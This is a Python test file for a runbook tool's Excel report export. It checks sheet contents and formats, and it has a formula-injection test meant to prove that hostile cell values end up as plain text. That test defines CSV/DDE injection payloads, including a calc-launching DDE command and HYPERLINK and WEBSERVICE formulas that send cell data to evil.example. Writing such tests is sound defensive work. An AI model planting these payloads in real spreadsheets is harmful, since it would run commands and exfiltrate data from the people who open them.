"""`runbook report --format xlsx`: the workbook read back with openpyxl and checked as XML."""

from __future__ import annotations

import sys
import zipfile
from datetime import datetime, timedelta
from pathlib import Path

import pytest
from test_report_support import record

from runbook.cli import main
from runbook.report import build, render_bytes
from runbook.report.json_out import as_json
from runbook.store import Store

openpyxl = pytest.importorskip("openpyxl")

HOSTILE = {  # step id -> title that a spreadsheet would run or misread if it were not text
    "cmd": "=cmd|' /C calc'!A0",
    "hyper": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(1,2)",
    "error": "#N/A",
    "ctrl": "bell\x07 and escape\x1b[31m red",
}
HOSTILE_NOTE = "=WEBSERVICE(\"http://evil.example/\"&A1)"


def hostile_runbook(path: Path) -> Path:
    lines = ["runbook: 1", "id: inject", "title: '=1+1 injection test'", "timezone: Asia/Seoul",
             "window: {start: 2026-11-25T00:00, announced_resume: 2026-11-25T00:20}", "steps:"]
    for sid, title in HOSTILE.items():
        quoted = title.replace("\\", "\\\\").replace('"', '\\"').replace("\x07", "\\a").replace(
            "\x1b", "\\e")
        lines.append(f'  - {{id: {sid}, title: "{quoted}", estimate: 1m, owner: "=owner()"}}')
    path.write_text("\n".join(lines) + "\n")
    return path


def events(path: Path) -> Path:
    note = HOSTILE_NOTE.replace('"', '\\"')
    lines = ["events:"]
    for n, sid in enumerate(HOSTILE):
        extra = f', note: "{note}"' if sid == "cmd" else ""
        lines += [f"  - {{at: {2 * n}m, start: {sid}}}",
                  f"  - {{at: {2 * n + 2}m, complete: {sid}{extra}}}"]
    path.write_text("\n".join(lines) + "\n")
    return path


@pytest.fixture(scope="module")
def story(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    db = tmp_path_factory.mktemp("xlsx") / "story.db"
    return db, record(db, "story.yaml", "story.events.yaml")


def report_of(db: Path, run: str | None = None):
    with Store(db, readonly=True) as s:
        info = s.resolve(run)
        return build(info, s.events(info.id))


def workbook(data: bytes, tmp_path: Path, **kw):
    path = tmp_path / "r.xlsx"
    path.write_bytes(data)
    return path, openpyxl.load_workbook(path, **kw)


def local(iso: str | None) -> datetime | None:
    return None if iso is None else datetime.fromisoformat(iso).replace(tzinfo=None)


def test_steps_sheet_values_and_formats(story, tmp_path) -> None:
    r = report_of(*story)
    data = as_json(r)
    _, wb = workbook(render_bytes(r, "xlsx"), tmp_path)
    assert wb.sheetnames == ["Steps", "Summary", "Alerts", "Notes"]
    ws = wb["Steps"]
    assert "Times are local to Asia/Seoul (UTC+09:00)" in ws["A2"].value
    head = [c.value for c in ws[4]]
    assert head[:3] == ["#", "Step id", "Title"] and "Actual" in head
    col = {name: i for i, name in enumerate(head)}
    rows = list(ws.iter_rows(min_row=5))
    assert len(rows) == len(data["steps"])
    for row, step in zip(rows, data["steps"], strict=True):
        assert row[col["Step id"]].value == step["id"]
        for name, key in (("Optimistic", "planned_optimistic_s"), ("Likely", "planned_likely_s"),
                          ("Pessimistic", "planned_pessimistic_s"), ("Actual", "actual_s")):
            cell = row[col[name]]
            expected = None if step[key] is None else timedelta(seconds=step[key])
            assert cell.value == expected, (step["id"], name)
            assert cell.number_format == "[h]:mm:ss"
        for name, key in (("Started", "started_at"), ("Finished", "finished_at"),
                          ("Planned start", "planned_start")):
            assert row[col[name]].value == local(step[key])
            assert row[col[name]].number_format == "yyyy-mm-dd hh:mm:ss"
        variance = row[col["Variance (min, actual - likely)"]]
        assert variance.value == (None if step["variance_s"] is None
                                  else round(step["variance_s"] / 60, 1))
        assert row[col["Over pessimistic"]].value == ("yes" if step["over_pessimistic"] else None)
    swap = next(r for r in rows if r[1].value == "swap-port")
    assert swap[col["Actual"]].value == timedelta(minutes=22)
    assert swap[col["Variance (min, actual - likely)"]].value == 17.0
    assert ws.freeze_panes == "D5"
    assert ws.auto_filter.ref == f"A4:T{4 + len(rows)}"
    rules = {str(rng.sqref): [x for x in rs] for rng, rs in ws.conditional_formatting._cf_rules.items()}
    assert [x.formula for x in rules[f"A5:T{4 + len(rows)}"]] == [['$P5="yes"']]
    overrun = rules[f"O5:O{4 + len(rows)}"][0]
    assert (overrun.type, overrun.operator, overrun.formula) == ("cellIs", "greaterThan", ["0"])
    assert ws.column_dimensions["C"].width == 48


def test_summary_and_alerts(story, tmp_path) -> None:
    r = report_of(*story)
    data = as_json(r)
    _, wb = workbook(render_bytes(r, "xlsx"), tmp_path)
    summary = {row[0].value: row[1] for row in wb["Summary"].iter_rows(min_row=5)
               if row[0].value}
    assert summary["Announced resume"].value == datetime(2026, 11, 25, 0, 30)
    assert summary["Resumed at"].value == datetime(2026, 11, 25, 1, 30)
    assert summary["Resumed vs announced"].value == "01:30, 1h late"
    assert summary["Overrun"].value == timedelta(hours=1)
    assert summary["Overrun"].number_format == "[h]:mm:ss"
    assert summary["Outage report required"].value == "YES"
    assert summary["Report due by"].value == datetime(2026, 11, 26, 0, 40)
    assert summary["Status"].value == "FINISHED"
    assert summary["Operators"].value == "simulator"
    assert summary["Contingency"].value.startswith("not triggered")
    alerts = list(wb["Alerts"].iter_rows(min_row=5, values_only=True))
    assert len(alerts) == len(data["alerts"]) > 0
    for row, alert in zip(alerts, data["alerts"], strict=True):
        assert row[0] == local(alert["at"]) and row[5] == alert["message"]
        assert row[2] == alert["p_on_time"]
    assert wb["Alerts"].freeze_panes == "A5"


def test_in_progress_is_marked(tmp_path) -> None:
    db = tmp_path / "p.db"
    r = report_of(db, record(db, "story.yaml", "partial.events.yaml"))
    _, wb = workbook(render_bytes(r, "xlsx"), tmp_path)
    assert wb["Steps"]["A3"].value.startswith("RUN IN PROGRESS")
    verify = next(row for row in wb["Steps"].iter_rows(min_row=5) if row[1].value == "verify-paths")
    assert verify[6].value == "running (so far)" and verify[13].value == timedelta(minutes=2)


def test_formula_injection_is_impossible(tmp_path) -> None:
    db = tmp_path / "inject.db"
    rb, ev = hostile_runbook(tmp_path / "inject.yaml"), events(tmp_path / "inject.events.yaml")
    assert main(["simulate", str(rb), "--events", str(ev), "--db", str(db), "--samples", "200"]) == 0
    path, wb = workbook(render_bytes(report_of(db), "xlsx"), tmp_path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
    steps = {row[1].value: row for row in wb["Steps"].iter_rows(min_row=5)}
    for sid, title in HOSTILE.items():
        cell = steps[sid][2]
        if sid == "ctrl":
            assert cell.value == "bell\\x07 and escape\\x1b[31m red"  # visible, not acting
        else:
            assert cell.value == title and cell.data_type == "s"
        assert cell.quotePrefix == title.startswith(("=", "+", "-", "@"))
        assert steps[sid][5].value == "=owner()" and steps[sid][5].data_type == "s"
    assert HOSTILE_NOTE in steps["cmd"][19].value
    assert wb["Steps"]["A1"].value.startswith("=1+1 injection test")
    # and in the file itself: no formula element in any sheet, the text in inline strings
    with zipfile.ZipFile(path) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        xml = "".join(z.read(n).decode("utf-8") for n in sheets)
    assert "<f>" not in xml and "<f " not in xml
    assert '<is><t>=cmd|\' /C calc\'!A0</t></is>' in xml
    assert "quotePrefix" in zipfile.ZipFile(path).read("xl/styles.xml").decode()


def test_cli_refuses_stdout_and_writes_a_file(story, tmp_path, capsys) -> None:
    db, run = story
    assert main(["report", run, "--db", str(db), "--format", "xlsx"]) == 2
    err = capsys.readouterr().err
    assert "binary workbook" in err and "-o FILE" in err
    out = tmp_path / "timing.xlsx"
    assert main(["report", run, "--db", str(db), "--format", "xlsx", "-o", str(out)]) == 0
    assert openpyxl.load_workbook(out).sheetnames[0] == "Steps"


def test_cli_without_openpyxl_says_how_to_install(story, tmp_path, capsys, monkeypatch) -> None:
    db, run = story
    monkeypatch.setitem(sys.modules, "openpyxl", None)
    out = tmp_path / "timing.xlsx"
    assert main(["report", run, "--db", str(db), "--format", "xlsx", "-o", str(out)]) == 2
    assert "pip install 'runbook[xlsx]'" in capsys.readouterr().err
    assert not out.exists()
